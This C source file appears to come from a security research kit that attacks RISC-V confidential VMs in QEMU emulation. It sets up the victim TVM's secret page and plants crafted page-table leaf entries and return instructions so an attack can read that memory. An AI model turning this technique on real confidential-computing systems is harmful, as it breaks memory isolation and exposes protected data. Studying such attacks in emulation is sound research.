/* SPDX-License-Identifier: Apache-2.0 */
/* The TVM whose memory is worth stealing; see attack.h. It is never run: its page is in the window, which is enough. */
#include "emulation/qemu/attacks/kit/attack.h"
#include "emulation/qemu/attacks/kit/tvm.h"

#define LEAF_2M(flags) ((uint64_t)(uintptr_t)bait / (2u << 20) * (2u << 20) / PAGE << 10 | (flags))
#define RETURN UINT64_C(0x00008067)

uint64_t bait[PAGE / 8] __attribute__((aligned(4096)));

static uint64_t source[PAGE / 8] __attribute__((aligned(4096)));

static const struct tvm_layout layout = {.frame = 0, .frames = SECRET_FRAMES};

void secret_make(void)
{
    struct tvm tvm;
    for (unsigned i = 0; i < PAGE / 8; i++) {
        source[i] = SECRET;
        bait[i] = BAIT;
    }
    source[0] = LEAF_2M(0xcf); /* for a walk of satp that reads this page as a table */
    source[1] = LEAF_2M(0xdf); /* for one of hgatp */
    source[(SECRET_CODE - SECRET_PAGE) / 8] = RETURN << 32 | RETURN;
    tvm_create(&tvm, &layout);
    tvm_add_measured(&tvm, source, SECRET_PAGE, 1);
    for (unsigned i = 0; i < PAGE / 8; i++)
        source[i] = 0;
}
